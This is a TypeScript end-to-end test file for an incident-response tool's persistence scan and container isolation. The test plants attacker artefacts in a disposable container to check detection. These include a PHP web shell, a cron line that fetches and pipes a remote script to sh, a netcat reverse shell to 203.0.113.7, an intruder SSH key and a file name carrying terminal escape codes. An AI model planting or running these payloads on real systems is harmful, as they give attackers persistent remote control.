import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseJson, runIr } from '../helpers/cli.js';
import { dockerEnv, sshArgs } from '../helpers/services.js';
import { tracedTrips } from '../helpers/latency-proxy.js';
import { docker, randomName, run, TestProject, useProject, type IsolateJson } from './isolate-project.js';

/**
 * Issue 17 end to end on the real dockerd of test/services, on a Compose project of our own (a copy of
 * test/fixtures/isolate/compose.yaml under -p irtest-ctr<random>; the shared irtest is never touched):
 * an attacker's web shell, cron line, running dropped binary and SSH key planted with `docker exec`,
 * found live, found again offline in the engine's data root after `isolate --mode stop`, and kept byte
 * for byte by `isolate --mode down`.
 */
const p = new TestProject(randomName('irtest-ctr'));
const cases = mkdtempSync(join(tmpdir(), 'irctr-cases-'));
useProject(p, cases);

const KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGHt0lq0YjLtE7s8Ukz2l0yX3qoYl7wWJZz1pQHc2Wwm intruder@example.com';
const PLANTED = {
  webshell: '/www/uploads/cmd.php',
  cron: '/var/spool/cron/crontabs/root',
  binary: '/tmp/.cache-x/kworkerd',
  key: '/root/.ssh/authorized_keys',
};
const HOSTILE = `/tmp/\u001b[2Jclear\nme.sh`;

interface Finding {
  severity: string;
  rule: string;
  key: string;
  title: string;
  path?: string;
  detector: string;
  container?: { name: string; id: string; image: string; project?: string; service?: string };
}
interface ScanJson {
  findings: Finding[];
  containers?: { runs: { name: string; view: string; notes: string[]; error?: string }[]; notes: string[] };
}

const RANK: Record<string, number> = { info: 0, low: 1, medium: 2, high: 3, critical: 4 };
let web = '';

async function plant(): Promise<void> {
  web = Object.keys(await p.states()).find((n) => n.includes('-web-'))!;
  await docker('exec', web, 'sh', '-c', `mkdir -p /www/uploads && printf '<?php system($_GET["c"]); ?>\\n' > ${PLANTED.webshell}`);
  await docker('exec', web, 'sh', '-c', `mkdir -p /var/spool/cron/crontabs && echo '*/5 * * * * wget -q -O- http://203.0.113.7/k | sh' > ${PLANTED.cron}`);
  await docker('exec', web, 'sh', '-c', `mkdir -p /root/.ssh && echo '${KEY}' > ${PLANTED.key}`);
  await docker('exec', web, 'sh', '-c', `mkdir -p /tmp/.cache-x && cp /bin/busybox ${PLANTED.binary} && chmod 755 ${PLANTED.binary}`);
  await docker('exec', web, 'sh', '-c', `printf '#!/bin/sh\\nnc -e /bin/sh 203.0.113.7 4444\\n' > "$(printf '${HOSTILE.replace(/\n/g, '\\n').replace(/\u001b/g, '\\033')}')" && chmod 755 /tmp/*.sh`);
}

/** The dropped binary keeps running (busybox started under another name: `exec -a sleep`). */
async function startDropped(): Promise<void> {
  await docker('exec', '-d', web, 'sh', '-c', `exec -a sleep ${PLANTED.binary} 3600`);
  for (let i = 0; i < 50; i++) {
    if ((await docker('top', web, '-eo', 'pid,args')).includes('sleep 3600')) return;
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error('the dropped binary did not start');
}

async function sha256In(container: string, path: string): Promise<string> {
  const { stdout } = await run('docker', ['exec', container, 'cat', path], { env: { ...process.env, ...dockerEnv() }, encoding: 'buffer', maxBuffer: 64 << 20 });
  return createHash('sha256').update(stdout as unknown as Buffer).digest('hex');
}

function expectPlanted(r: ScanJson, where: string): void {
  const mine = r.findings.filter((f) => f.container?.name === web);
  for (const [what, path] of Object.entries(PLANTED)) {
    const hits = mine.filter((f) => f.path === path && RANK[f.severity]! >= RANK.medium!);
    if (hits.length === 0) throw new Error(`${where}: no finding at medium or above for the ${what} ${path}; findings in ${web}:\n${mine.map((f) => `${f.severity} ${f.rule} ${f.path}`).join('\n')}`);
    for (const f of hits) {
      expect(f.container).toMatchObject({ name: web, project: p.name, service: 'web', image: 'ir-busybox:test' });
      // keys follow the Compose service, never the container id (new at every compose up)
      expect(f.key).toContain(`${p.name}/web`);
      expect(f.key).not.toContain(f.container!.id.slice(0, 12));
    }
  }
}

beforeAll(async () => {
  await plant();
  await startDropped();
}, 60_000);

test('live: each planted item is found at medium or above, naming the container; the running binary is attributed', async () => {
  const r = await runIr(['persistence-scan', '--json', '--container', web], { env: dockerEnv(), timeoutMs: 180_000 });
  expect(r.code).toBe(1);
  const out = parseJson<ScanJson>(r);
  expectPlanted(out, 'live scan');
  const run1 = out.containers!.runs.find((x) => x.name === web)!;
  expect(run1.view).toBe('running');
  // the process runs from /tmp inside the container: the host's process detector names the container
  const proc = out.findings.find((f) => f.detector === 'processes' && f.path === PLANTED.binary);
  expect(proc?.container).toMatchObject({ name: web, service: 'web' });
  expect(RANK[proc!.severity]).toBeGreaterThanOrEqual(RANK.high!);
  // the hostile file name is kept raw in JSON and found
  expect(out.findings.some((f) => f.path === HOSTILE)).toBe(true);

  // the human output groups by container and shows the hostile name escaped
  const human = await runIr(['persistence-scan', '--container', web], { env: dockerEnv(), timeoutMs: 180_000 });
  expect(human.stdout).toContain(`Container ${web}`);
  expect(human.stdout).toContain('\\x1b[2Jclear\\nme.sh');
  expect(human.stdout).not.toContain('\u001b[2J');
}, 240_000);

test('over ssh: the same findings in the container, each of its trees read in a batch under it; per file the same', async () => {
  const trace = (name: string) => join(cases, `trace-${name}.jsonl`);
  const scan = (batch: boolean) => runIr(['persistence-scan', '--container', web, '--json', ...sshArgs()], { env: { IR_BATCH: batch ? '1' : '0', IR_TRACE_ROUNDTRIPS: trace(batch ? 'batch' : 'per-file') }, timeoutMs: 300_000 });
  const digest = (r: ScanJson) => r.findings.filter((f) => f.container?.name === web).map((f) => `${f.key} ${(f as { contentHash?: string }).contentHash} ${f.severity}`).sort();
  const batched = await scan(true);
  expect(batched.code).toBe(1);
  const out = parseJson<ScanJson>(batched);
  expectPlanted(out, 'scan over ssh');
  expect(out.containers!.runs.find((x) => x.name === web)?.view).toBe('running');
  const perFile = await scan(false);
  expect(digest(parseJson<ScanJson>(perFile))).toEqual(digest(out));
  // the image's layers, the running root and the writable layer: a batch each on the host's kept-open
  // shell; per file, every name on the way to every path is a request of its own
  const [b, f] = [tracedTrips(trace('batch')), tracedTrips(trace('per-file'))].map((t) => t.perFile);
  expect(f).toBeGreaterThan(200);
  expect(b).toBeLessThanOrEqual(10);
  // one host, one trace line: its channels
  expect(tracedTrips(trace('batch')).channels).toBeLessThanOrEqual(20);
}, 600_000);

test('isolate --mode stop, then an offline scan of an image whose /var/lib/docker is the data root finds the same four', async () => {
  const caseDir = join(cases, 'stop');
  const iso = await runIr(['isolate', '-p', p.name, '--mode', 'stop', '--yes', '--json', '--case', caseDir], { env: dockerEnv(), timeoutMs: 180_000 });
  expect(iso.code).toBe(0);
  const dataRoot = (await docker('info', '--format', '{{.DockerRootDir}}')).trim();
  const img = join(cases, 'disk');
  mkdirSync(join(img, 'etc'), { recursive: true });
  mkdirSync(join(img, 'var/lib/docker'), { recursive: true });
  writeFileSync(join(img, 'etc/hostname'), 'captured\n');
  const mnt = join(img, 'var/lib/docker');
  execFileSync('mount', ['--bind', '-o', 'ro', dataRoot, mnt]);
  try {
    // read-only, so nothing here (nor a cleanup that recursed into it) can change the engine's data root
    expect(execFileSync('findmnt', ['-no', 'OPTIONS', mnt]).toString()).toMatch(/(^|,)ro(,|$)/);
    const r = await runIr(['persistence-scan', '--root', img, '--json', '--container', web], { env: dockerEnv(), timeoutMs: 180_000 });
    expect(r.code).toBe(1);
    const out = parseJson<ScanJson>(r);
    expectPlanted(out, 'offline scan');
    expect(out.containers!.runs.find((x) => x.name === web)?.view).toBe('layers');
  } finally {
    // lazily: a busy mount is detached now, never left for the temp dir's removal to walk into
    execFileSync('umount', ['-l', mnt]);
  }
  const rr = await runIr(['restore', '--case', caseDir, '--yes', '--json'], { env: dockerEnv(), timeoutMs: 180_000 });
  expect(rr.code).toBe(0);
  await p.waitHealthy();
}, 300_000);

test('isolate --mode down: stop, copy the layers, only then compose down; every planted file byte for byte; evidence verify passes', async () => {
  const want: Record<string, string> = {};
  for (const path of Object.values(PLANTED)) want[path] = await sha256In(web, path);
  const caseDir = join(cases, 'down');
  const iso = await runIr(['isolate', '-p', p.name, '--mode', 'down', '--yes', '--json', '--case', caseDir], { env: dockerEnv(), timeoutMs: 180_000 });
  expect(iso.code).toBe(0);
  const out = parseJson<IsolateJson & { steps: { step: string; ok: boolean }[]; actions: { kind: string }[] }>(iso);
  expect(out.steps.map((s) => s.step)).toEqual(['snapshot', 'cut', 'copy-layers', 'seal-snapshot', 'destroy', 'self-test']);
  expect(out.steps.every((s) => s.ok)).toBe(true);
  expect(out.actions.map((a) => a.kind).slice(-1)).toEqual(['compose-down']);
  expect(out.actions.filter((a) => a.kind === 'stop').length).toBe(2);
  expect(Object.keys(await p.states())).toHaveLength(0);

  const snap = out.snapshot!.path;
  for (const [path, sha] of Object.entries(want)) {
    const { stdout } = await run('tar', ['xzf', snap, '-O', `docker/${p.name}/${web}/layer${path}`], { encoding: 'buffer', maxBuffer: 64 << 20 });
    expect(createHash('sha256').update(stdout as unknown as Buffer).digest('hex')).toBe(sha);
  }
  // the manifest carries each file's hash, and the archive checks out
  const manifest = JSON.parse((await run('tar', ['xzf', snap, '-O', 'manifest.json'])).stdout) as { files: { path: string; sha256?: string }[] };
  expect(manifest.files.find((f) => f.path === `docker/${p.name}/${web}/layer${PLANTED.webshell}`)?.sha256).toBe(want[PLANTED.webshell]);
  const v = await runIr(['evidence', 'verify', snap]);
  expect(v.code).toBe(0);
  const ls = await runIr(['evidence', 'ls', snap]);
  expect(ls.stdout).toContain(`docker/${p.name}/${web}/layer${PLANTED.cron}`);
  expect(ls.stdout).toContain('\\x1b[2Jclear\\nme.sh');

  const rr = await runIr(['restore', '--case', caseDir, '--yes', '--json'], { env: dockerEnv(), timeoutMs: 180_000 });
  expect(rr.code).toBe(0);
  await p.waitHealthy();
}, 300_000);
